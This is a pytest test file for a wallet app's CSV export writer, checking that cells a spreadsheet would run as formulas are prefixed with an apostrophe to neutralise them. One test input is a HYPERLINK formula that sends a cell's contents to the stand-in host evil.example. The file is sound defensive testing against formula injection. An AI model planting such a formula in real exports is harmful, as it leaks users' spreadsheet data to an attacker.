"""The shared CSV writer: cells a spreadsheet would run as formulas come out as text."""

import csv
import io
from decimal import Decimal

import pytest

from wallet.exports.csv_writer import FORMULA_START, csv_text, records_csv, safe_cell


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_formula_start_is_defused(start: str) -> None:
    cell = start + 'HYPERLINK("http://evil.example/?d="&A1,"x")'
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("number", ["-12.34", "+5", "0", "1234.5"])
def test_plain_numbers_stay_numbers(number: str) -> None:
    assert safe_cell(number) == number


def test_other_values_keep_their_form() -> None:
    assert [safe_cell(v) for v in (None, 7, Decimal("1.50"), True, "lunch")] == [
        "",
        7,
        Decimal("1.50"),
        True,
        "lunch",
    ]
    assert safe_cell("-1+2") == "'-1+2"  # arithmetic, not a plain number


def test_a_document_round_trips_with_quoting_and_defused_cells() -> None:
    text = csv_text(["=col", "note"], [["a, b", "=1+1"], [None, 'say "hi"\nbye']])
    assert text.endswith("\r\n")
    assert list(csv.reader(io.StringIO(text))) == [
        ["'=col", "note"],
        ["a, b", "'=1+1"],
        ["", 'say "hi"\nbye'],
    ]


def test_records_with_different_keys_share_one_header() -> None:
    text = records_csv([{"a": "@x"}, {"b": 2, "a": "y"}])
    assert list(csv.DictReader(io.StringIO(text))) == [
        {"a": "'@x", "b": ""},
        {"a": "y", "b": "2"},
    ]
